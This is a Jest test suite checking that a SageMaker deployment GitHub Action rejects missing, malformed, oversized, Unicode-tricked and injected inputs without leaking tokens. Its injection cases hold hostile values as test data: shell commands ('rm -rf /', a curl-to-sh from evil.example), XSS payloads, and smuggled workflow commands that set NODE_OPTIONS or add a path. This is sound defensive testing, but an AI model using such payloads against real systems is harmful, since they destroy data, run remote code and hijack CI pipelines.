// Bad input, run as the runner runs the bundle: action.yml defaults plus the bad values, against
// an emulator where Model A already serves the endpoint, so that an input slipping through would
// show up as a mutating call. Every case must fail with exit code 1, one `::error::` naming the
// input, no mutating call, and no workflow command smuggled onto its own line.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import type { Emulator } from '../../emulator/index.js'
import { actionDefaults, runAction, type ActionResult } from '../../scripts/lib/action-runner.js'
import { LAB_ENDPOINT, LAB_IMAGE, LAB_ROLE, labModel } from '../../scripts/lib/lab.js'
import { labEmulator, liveModelA } from '../e2e/helpers.js'
import { commandLines, commandName, LOG_COMMANDS, pool } from './helpers.js'

const PACKAGE_ARN = 'arn:aws:sagemaker:us-east-1:123456789012:model-package/lab-models/2'
const DEFAULT_TOKEN = actionDefaults()['github-token']!
const SECRET = 'ghs_TopSecretTokenValue0123456789abcdefXYZ'
const TEN_KB = 10 * 1024

/** A valid Model B step without policy inputs: each case breaks one thing. */
const BASE: Record<string, string> = {
  'endpoint-name': LAB_ENDPOINT,
  'model-data-url': labModel('b'),
  'image-uri': LAB_IMAGE,
  'execution-role-arn': LAB_ROLE
}
const NO_ARTIFACT = { 'model-data-url': '', 'image-uri': '', 'execution-role-arn': '' }

interface Case {
  readonly title: string
  readonly inputs: Record<string, string>
  /** The input the error must name. */
  readonly input: string
  /** How the error names it, when not `Input "<input>"`. */
  readonly names?: RegExp
  readonly env?: Record<string, string>
  /** Values crafted to smuggle workflow commands or markup: only `::error::` may be a command. */
  readonly injection?: boolean
  /** Text that must appear nowhere in stdout or stderr. */
  readonly absent?: readonly string[]
  /** Refused in pre-flight (checked against the endpoint), after the log's own groups. */
  readonly preflight?: boolean
}

const missing: Case[] = [
  { title: 'no endpoint-name', inputs: { 'endpoint-name': '' }, input: 'endpoint-name' },
  { title: 'nothing says what to deploy', inputs: NO_ARTIFACT, input: 'model-data-url' },
  { title: 'model-data-url without image-uri', inputs: { 'image-uri': '' }, input: 'image-uri' },
  {
    title: 'model-data-url without execution-role-arn',
    inputs: { 'execution-role-arn': '' },
    input: 'execution-role-arn'
  },
  {
    title: 'model-package-arn without execution-role-arn',
    inputs: { ...NO_ARTIFACT, 'model-package-arn': PACKAGE_ARN },
    input: 'execution-role-arn'
  },
  {
    title: 'execution-role-arn alone',
    inputs: { 'model-data-url': '', 'image-uri': '' },
    input: 'execution-role-arn'
  },
  {
    title: 'no region anywhere',
    inputs: {},
    env: { AWS_REGION: '', AWS_DEFAULT_REGION: '' },
    input: 'region'
  },
  {
    title: 'a new endpoint without instance-type (found by the plan, after reads only)',
    inputs: { 'endpoint-name': 'brand-new-endpoint', 'create-endpoint': 'if-missing' },
    input: 'instance-type'
  }
]

const malformed: Case[] = [
  { title: 'region', inputs: { region: 'mars-north-1x' }, input: 'region' },
  {
    title: 'region from AWS_REGION',
    inputs: {},
    env: { AWS_REGION: 'Moon Base' },
    input: 'region',
    names: /Input "region" \(taken from AWS_REGION/
  },
  {
    title: 'model-data-url scheme',
    inputs: { 'model-data-url': 'ftp://b/m.tar.gz' },
    input: 'model-data-url'
  },
  { title: 'image-uri with a space', inputs: { 'image-uri': 'my image:1' }, input: 'image-uri' },
  {
    title: 'execution-role-arn account',
    inputs: { 'execution-role-arn': 'arn:aws:iam::123:role/x' },
    input: 'execution-role-arn'
  },
  {
    title: 'model-package-arn of a model',
    inputs: {
      ...NO_ARTIFACT,
      'execution-role-arn': LAB_ROLE,
      'model-package-arn': 'arn:aws:sagemaker:us-east-1:123456789012:model/x'
    },
    input: 'model-package-arn'
  },
  {
    title: 'model-name underscore',
    inputs: { ...NO_ARTIFACT, 'model-name': 'my_model' },
    input: 'model-name'
  },
  {
    title: 'variant-name underscore',
    inputs: { 'variant-name': 'All_Traffic' },
    input: 'variant-name'
  },
  {
    title: 'instance-type without ml.',
    inputs: { 'instance-type': 'm5.large' },
    input: 'instance-type'
  },
  { title: 'instance-count decimal', inputs: { 'instance-count': '2.5' }, input: 'instance-count' },
  {
    title: 'traffic-routing',
    inputs: { 'traffic-routing': 'blue-green' },
    input: 'traffic-routing'
  },
  { title: 'step-size word', inputs: { 'step-size': 'quarter' }, input: 'step-size' },
  { title: 'wait-interval with a unit', inputs: { 'wait-interval': '1m' }, input: 'wait-interval' },
  { title: 'poll-interval word', inputs: { 'poll-interval': 'fast' }, input: 'poll-interval' },
  {
    title: 'retain-deployment-config yes',
    inputs: { 'retain-deployment-config': 'yes' },
    input: 'retain-deployment-config'
  },
  { title: 'create-alarms 1', inputs: { 'create-alarms': '1' }, input: 'create-alarms' },
  { title: 'wait maybe', inputs: { wait: 'maybe' }, input: 'wait' },
  { title: 'on-busy retry', inputs: { 'on-busy': 'retry' }, input: 'on-busy' },
  { title: 'dry-run sure', inputs: { 'dry-run': 'sure' }, input: 'dry-run' },
  { title: 'pr-number with #', inputs: { 'pr-number': '#12' }, input: 'pr-number' },
  { title: 'environment without =', inputs: { environment: 'JUST_A_KEY' }, input: 'environment' },
  { title: 'environment key digit', inputs: { environment: '1KEY=v' }, input: 'environment' },
  { title: 'environment duplicate key', inputs: { environment: 'A=1\nA=2' }, input: 'environment' },
  { title: 'tags without =', inputs: { tags: 'team' }, input: 'tags' },
  { title: 'tags reserved aws:', inputs: { tags: 'aws:createdBy=me' }, input: 'tags' },
  {
    title: "tags with the action's prefix",
    inputs: { tags: 'sagemaker-deploy:sha=abc' },
    input: 'tags'
  },
  { title: 'tags comma-separated', inputs: { tags: 'team=ml,env=prod' }, input: 'tags' }
]

const outOfRange: Case[] = [
  { title: 'wait-interval 3601', inputs: { 'wait-interval': '3601' }, input: 'wait-interval' },
  {
    title: 'termination-wait 99999',
    inputs: { 'termination-wait': '99999' },
    input: 'termination-wait'
  },
  {
    title: 'max-execution-timeout 599',
    inputs: { 'max-execution-timeout': '599' },
    input: 'max-execution-timeout'
  },
  {
    title: 'max-execution-timeout 28801',
    inputs: { 'max-execution-timeout': '28801' },
    input: 'max-execution-timeout'
  },
  { title: 'linear step-size 5%', inputs: { 'step-size': '5%' }, input: 'step-size' },
  { title: 'step-size 60%', inputs: { 'step-size': '60%' }, input: 'step-size' },
  { title: 'step-size 0 instances', inputs: { 'step-size': '0' }, input: 'step-size' },
  { title: 'instance-count 0', inputs: { 'instance-count': '0' }, input: 'instance-count' },
  { title: 'instance-count 1001', inputs: { 'instance-count': '1001' }, input: 'instance-count' },
  { title: 'poll-interval 0.01', inputs: { 'poll-interval': '0.01' }, input: 'poll-interval' },
  { title: 'poll-interval 301', inputs: { 'poll-interval': '301' }, input: 'poll-interval' },
  { title: 'timeout 0', inputs: { timeout: '0' }, input: 'timeout' },
  { title: 'timeout 361', inputs: { timeout: '361' }, input: 'timeout' },
  {
    title: 'error-rate-threshold 0',
    inputs: { 'error-rate-threshold': '0' },
    input: 'error-rate-threshold'
  },
  {
    title: 'error-rate-threshold 101',
    inputs: { 'error-rate-threshold': '101' },
    input: 'error-rate-threshold'
  },
  {
    title: 'latency-threshold-ms negative',
    inputs: { 'latency-threshold-ms': '-5' },
    input: 'latency-threshold-ms'
  },
  {
    title: '9 alarm-names plus the 2 created alarms',
    inputs: { 'alarm-names': Array.from({ length: 9 }, (_, i) => `alarm-${i}`).join('\n') },
    input: 'alarm-names'
  },
  {
    title: 'no alarm at all',
    inputs: { 'create-alarms': 'false', 'alarm-names': '' },
    input: 'alarm-names',
    names: /Inputs "alarm-names" and "create-alarms"/
  },
  {
    title: 'step-size with all-at-once',
    inputs: { 'traffic-routing': 'all-at-once', 'step-size': '25%' },
    input: 'step-size'
  },
  {
    title: 'max-execution-timeout shorter than the bakes (found by the plan)',
    inputs: { 'max-execution-timeout': '600', 'wait-interval': '600' },
    input: 'max-execution-timeout'
  },
  {
    title: 'bakes longer than SageMaker allows (found by the plan)',
    inputs: { 'wait-interval': '3600', 'step-size': '10%', 'instance-count': '10' },
    input: 'wait-interval',
    // The plan's message names wait-interval and termination-wait, not as `Input "..."`.
    names: /wait-interval 3600 s/
  }
]

const contradictory: Case[] = [
  {
    title: 'model-name and model-data-url',
    inputs: { 'model-name': 'existing-model' },
    input: 'model-name'
  },
  {
    title: 'model-package-arn and model-data-url',
    inputs: { 'model-package-arn': PACKAGE_ARN },
    input: 'model-package-arn'
  },
  {
    title: 'retain-deployment-config and wait-interval',
    inputs: { 'retain-deployment-config': 'true', 'wait-interval': '120' },
    input: 'wait-interval'
  },
  {
    // Checked against the endpoint's retained policy (linear 25 %), before any change.
    title: 'retain-deployment-config and a different policy',
    inputs: { 'retain-deployment-config': 'true', 'traffic-routing': 'canary', 'step-size': '1' },
    input: 'traffic-routing',
    names:
      /Input "traffic-routing" is canary, but the deployment configuration that retain-deployment-config reuses has linear/
  },
  {
    title: 'retain-deployment-config and alarm-names',
    inputs: { 'retain-deployment-config': 'true', 'alarm-names': 'my-alarm' },
    input: 'alarm-names'
  },
  {
    title: 'environment with an existing model',
    inputs: { ...NO_ARTIFACT, 'model-name': 'existing-model', environment: 'A=1' },
    input: 'environment'
  },
  {
    title: 'variant-name other than the live one (found by the plan)',
    inputs: { 'variant-name': 'Other' },
    input: 'variant-name'
  },
  {
    title: 'retain-deployment-config on a new endpoint (found by the plan)',
    inputs: {
      'endpoint-name': 'fresh-endpoint',
      'create-endpoint': 'if-missing',
      'retain-deployment-config': 'true',
      'instance-type': 'ml.m5.large',
      'instance-count': '2'
    },
    input: 'retain-deployment-config'
  }
]

const big = (c: string): string => c.repeat(TEN_KB)
const oversized: Case[] = [
  { title: 'endpoint-name', inputs: { 'endpoint-name': big('a') }, input: 'endpoint-name' },
  { title: 'tag value', inputs: { tags: `note=${big('x')}` }, input: 'tags' },
  { title: 'environment value', inputs: { environment: `BIG=${big('x')}` }, input: 'environment' },
  { title: 'alarm name', inputs: { 'alarm-names': big('y') }, input: 'alarm-names' },
  {
    title: 'model-data-url',
    inputs: { 'model-data-url': `s3://bucket/${big('m')}` },
    input: 'model-data-url'
  },
  { title: 'image-uri', inputs: { 'image-uri': big('i') }, input: 'image-uri' },
  {
    title: 'deployment-environment',
    inputs: { 'deployment-environment': big('z') },
    input: 'deployment-environment'
  }
].map(c => ({
  ...c,
  title: `10 kB ${c.title}`,
  // At most a short excerpt of the value is shown.
  absent: [Object.values(c.inputs)[0]!.slice(-200)]
}))

const unicode: Case[] = [
  {
    title: 'endpoint-name with é',
    inputs: { 'endpoint-name': 'modèle-é' },
    input: 'endpoint-name'
  },
  {
    title: 'endpoint-name in Arabic (RTL)',
    inputs: { 'endpoint-name': 'نقطة-النهاية' },
    input: 'endpoint-name'
  },
  {
    title: 'endpoint-name with a right-to-left override',
    inputs: { 'endpoint-name': '\u202Etnioprdne-bal' },
    input: 'endpoint-name'
  },
  {
    title: 'endpoint-name with emoji',
    inputs: { 'endpoint-name': '🚀-endpoint' },
    input: 'endpoint-name'
  },
  {
    title: 'endpoint-name with a zero-width space',
    inputs: { 'endpoint-name': 'lab\u200Bendpoint' },
    input: 'endpoint-name'
  },
  { title: 'variant-name with ñ', inputs: { 'variant-name': 'Variante-ñ' }, input: 'variant-name' },
  { title: 'tag value emoji', inputs: { tags: 'owner=🙂' }, input: 'tags' },
  {
    title: 'tag value with an RTL override',
    inputs: { tags: 'file=\u202Eexe.txt' },
    input: 'tags'
  },
  {
    title: 'instance-type with ä',
    inputs: { 'instance-type': 'ml.m5.lärge' },
    input: 'instance-type'
  }
]

const FORGED = '::set-output name=outcome::deployed'
const injection: Case[] = [
  {
    title: 'endpoint-name shell quote',
    inputs: { 'endpoint-name': 'x"; rm -rf /' },
    input: 'endpoint-name'
  },
  {
    title: 'endpoint-name $(...)',
    inputs: { 'endpoint-name': '$(curl -s http://evil.example | sh)' },
    input: 'endpoint-name'
  },
  { title: 'endpoint-name backticks', inputs: { 'endpoint-name': '`id`' }, input: 'endpoint-name' },
  {
    title: 'instance-type ; rm',
    inputs: { 'instance-type': 'ml.m5.large; rm -rf /' },
    input: 'instance-type'
  },
  {
    title: 'model-name $(...)',
    inputs: { ...NO_ARTIFACT, 'model-name': '$(whoami)' },
    input: 'model-name'
  },
  { title: 'tag <script>', inputs: { tags: 'note=<script>alert(1)</script>' }, input: 'tags' },
  { title: 'tag markdown link', inputs: { tags: 'note=[x](http://evil.example)' }, input: 'tags' },
  {
    title: 'tag markdown and HTML',
    inputs: { tags: 'note=**bold** <img src=x onerror=alert(1)> @org/admins' },
    input: 'tags'
  },
  {
    title: 'endpoint-name with a newline and ::set-output',
    inputs: { 'endpoint-name': `lab-endpoint\n${FORGED}` },
    input: 'endpoint-name'
  },
  {
    title: 'endpoint-name with a newline and ::error::',
    inputs: { 'endpoint-name': 'lab-endpoint\n::error::forged error' },
    input: 'endpoint-name'
  },
  {
    title: 'wait-interval with a newline and ::warning::',
    inputs: { 'wait-interval': '60\n::warning::forged' },
    input: 'wait-interval'
  },
  {
    title: 'traffic-routing with CRLF and ::set-env',
    inputs: { 'traffic-routing': 'linear\r\n::set-env name=NODE_OPTIONS::--require=/tmp/evil.js' },
    input: 'traffic-routing'
  },
  {
    title: 'region with a bare CR and ::add-path',
    inputs: { region: 'us-east-1\r::add-path::/tmp/evil' },
    input: 'region'
  },
  {
    title: 'endpoint-name with a percent-encoded newline',
    inputs: { 'endpoint-name': `x%0A${FORGED}` },
    input: 'endpoint-name'
  },
  {
    title: 'environment line that is a workflow command',
    inputs: { environment: 'OK=1\n::stop-commands::pwned' },
    input: 'environment'
  },
  {
    title: 'alarm-names with a command line (retained config)',
    inputs: { 'retain-deployment-config': 'true', 'alarm-names': `my-alarm\n${FORGED}` },
    input: 'alarm-names',
    // Refused in pre-flight (against the retained alarms), after the usual log groups.
    preflight: true
  },
  {
    title: 'step-size with U+2028 and ::set-output',
    inputs: { 'step-size': `25%\u2028${FORGED}` },
    input: 'step-size'
  }
].map(c => ({ ...c, injection: true }))

const secrets: Case[] = [
  {
    title: 'github-token is never printed',
    inputs: { 'github-token': SECRET, 'endpoint-name': 'bad_name' },
    input: 'endpoint-name',
    absent: [SECRET]
  },
  {
    title: 'github-token with an injected command is never printed',
    inputs: { 'github-token': `${SECRET}\n${FORGED}`, 'wait-interval': 'soon' },
    input: 'wait-interval',
    injection: true,
    absent: [SECRET]
  },
  {
    title: 'github-token with every other input broken',
    inputs: {
      'github-token': SECRET,
      'endpoint-name': '',
      'poll-interval': '0',
      'on-busy': 'x',
      'pr-comment': 'y',
      'github-deployment': 'z'
    },
    input: 'endpoint-name',
    absent: [SECRET]
  }
]

const groups: [string, Case[]][] = [
  ['missing', missing],
  ['malformed', malformed],
  ['out of range', outOfRange],
  ['contradictory', contradictory],
  ['oversized', oversized],
  ['unicode', unicode],
  ['injection', injection],
  ['secrets', secrets]
]
const CASES = groups.flatMap(([group, cases]) =>
  cases.map(c => ({ ...c, title: `${group}: ${c.title}` }))
)

/** The message of the one `::error::` line, unescaped as the runner does. */
function errorMessageOf(stdout: string): string {
  const line = commandLines(stdout).find(l => commandName(l) === 'error') ?? ''
  return line
    .replace(/^::error[^:]*::/, '')
    .replace(/%0D/g, '\r')
    .replace(/%0A/g, '\n')
    .replace(/%25/g, '%')
}

describe('bad input: exit 1, an error naming the input, nothing changed', () => {
  let emulator: Emulator
  let mutatingBefore: number
  const results = new Map<string, ActionResult>()

  beforeAll(async () => {
    emulator = await labEmulator()
    await liveModelA(emulator)
    mutatingBefore = emulator.mutatingCalls().length
    const env = {
      ...emulator.env(),
      GITHUB_SHA: 'badbadbadbadbadbadbadbadbadbadbadbadbad0',
      GITHUB_RUN_ID: '6660'
    }
    await pool(CASES, 4, async c => {
      results.set(
        c.title,
        await runAction({ inputs: { ...BASE, ...c.inputs }, env: { ...env, ...c.env } })
      )
    })
  }, 300_000)
  afterAll(() => emulator.close())

  it('has at least 40 cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(40)
    expect(new Set(CASES.map(c => c.title)).size).toBe(CASES.length)
  })

  it('made no mutating call in any case', () => {
    expect(emulator.mutatingCalls().slice(mutatingBefore)).toEqual([])
  })

  it.each(CASES.map(c => [c.title, c] as const))('%s', (_title, c) => {
    const r = results.get(c.title)!
    const context = `stdout:\n${r.stdout.slice(0, 3000)}\nstderr:\n${r.stderr.slice(0, 1000)}`
    expect({ code: r.code, context }).toEqual({ code: 1, context })

    // One error annotation, naming the input.
    const commands = commandLines(r.stdout)
    expect(commands.filter(l => commandName(l) === 'error')).toHaveLength(1)
    expect(errorMessageOf(r.stdout)).toMatch(c.names ?? `Input "${c.input}"`)

    // Nothing but the action's own log commands; for crafted values, nothing but the error.
    const allowed = c.injection && !c.preflight ? new Set(['error', 'add-mask']) : LOG_COMMANDS
    expect(commands.map(commandName).filter(n => !allowed.has(n))).toEqual([])
    expect(commandLines(r.stderr)).toEqual([])

    // Secrets and huge values never reach the log.
    // (`::add-mask::<value>` is how a value is masked: the runner consumes it, never shows it.)
    const shown = r.stdout
      .split('\n')
      .filter(line => commandName(line) !== 'add-mask')
      .join('\n')
    for (const text of [DEFAULT_TOKEN, ...(c.absent ?? [])]) {
      expect(shown).not.toContain(text)
      expect(r.stderr).not.toContain(text)
    }
    expect(r.stdout.length).toBeLessThan(8000)

    // Nothing changed: no mutating call, and the outcome (when set at all) is not a success.
    expect(emulator.mutatingCalls().length).toBe(mutatingBefore)
    expect(['', undefined, 'failed']).toContain(r.outputs.outcome)
  })
})
